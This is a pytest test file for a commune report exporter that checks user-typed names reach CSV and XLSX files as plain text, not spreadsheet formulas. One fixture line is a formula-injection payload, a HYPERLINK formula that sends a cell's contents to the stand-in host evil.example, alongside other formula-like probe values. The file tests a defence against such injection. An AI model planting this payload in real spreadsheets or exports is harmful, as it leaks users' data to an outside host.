"""What people typed reaches the report files as text, never as a formula a spreadsheet would run."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from admin.reports import HEADER_ROW, Report, TopicRow, parse_period, to_csv, to_xlsx
from data.commune import load_commune_config
from data.stats import MentorRow, Period, VillageRow

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
TYPED = [EVIL, "+84 912", "-1+2", "@SUM(A1:A9)", "\tThôn Tab", "\rThôn CR"]
COMMUNE = """
communes:
  - id: xa-thu
    name: "=1+1"
    province: "@Tỉnh"
    targets: [{year: 2026, basic_skills_share: 0.8}]
    villages:
      - {id: thon-a, name: "-Thôn A", adults: 10}
"""


@pytest.fixture
def report(tmp_path: Path) -> Report:
    path = tmp_path / "communes.yaml"
    path.write_text(COMMUNE, encoding="utf-8")
    commune = load_commune_config(path).communes[0]
    mentors = [
        MentorRow(
            mentor_id=n,
            name=name,
            village_id="thon-a",
            learners=1,
            active_7=1,
            finished_core=0,
            pushes=0,
            target=5,
        )
        for n, name in enumerate(TYPED, 1)
    ]
    return Report(
        commune=commune,
        period=Period.parse("2026-Q4"),
        generated_at=datetime(2026, 12, 1, tzinfo=UTC),
        villages=[VillageRow("thon-a", "-Thôn A", 10, 3, 1, 1, 0.8)],
        topics=[TopicRow("t", "=Chủ đề", 2, 1, 1, 1)],
        mentors=mentors,
        village_names={"thon-a": "-Thôn A"},
    )


def test_csv_cells_that_look_like_formulas_start_with_an_apostrophe(report: Report) -> None:
    for vietnamese_excel in (True, False):
        text = to_csv(report, vietnamese_excel).lstrip("\ufeff")
        rows = list(csv.reader(io.StringIO(text), delimiter=";" if vietnamese_excel else ","))
        cells = [cell for row in rows for cell in row]
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
        # the mentors' table: STT, name, ... (8 columns); its total row has no STT
        names = [row[1] for row in rows if len(row) == 8 and row[0].isdigit()]
        assert names == ["'" + name for name in TYPED]
        assert "'-Thôn A" in cells and "'=Chủ đề" in cells and "'=1+1" in "".join(cells)
        assert ["1", "'-Thôn A", "10", "3", "1", "1"] in [row[:6] for row in rows]  # numbers stay numbers


def test_xlsx_cells_are_strings_never_formulas(report: Report) -> None:
    book = load_workbook(io.BytesIO(to_xlsx(report)))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    mentors = book["Theo Đại sứ số"]
    names = [mentors.cell(row=r, column=2) for r in range(HEADER_ROW + 1, HEADER_ROW + 1 + len(TYPED))]
    # exactly what was typed, shown as text (XML reads a carriage return back as a line feed)
    assert [cell.value for cell in names] == [name.replace("\r", "\n") for name in TYPED]
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in names)
    village = book["Theo thôn"].cell(row=HEADER_ROW + 1, column=2)
    assert (village.value, village.data_type, village.quotePrefix) == ("-Thôn A", "s", True)
    assert book["Theo thôn"].cell(row=HEADER_ROW + 1, column=3).value == 10
    # the commune's name in the form's header and signature lines stays text too
    assert book["Theo thôn"]["A1"].value == "UBND XÃ =1+1" and book["Theo thôn"]["A1"].data_type == "s"


@pytest.mark.parametrize("text", ["0001", "1999", "2101-Q1", "9999-Q4", "0000", "2026-Q5", "x" * 5000])
def test_periods_outside_the_years_a_report_can_cover_are_refused(text: str) -> None:
    with pytest.raises(ValueError):
        parse_period(text)
    assert parse_period("2026-Q4").label == "2026-Q4"
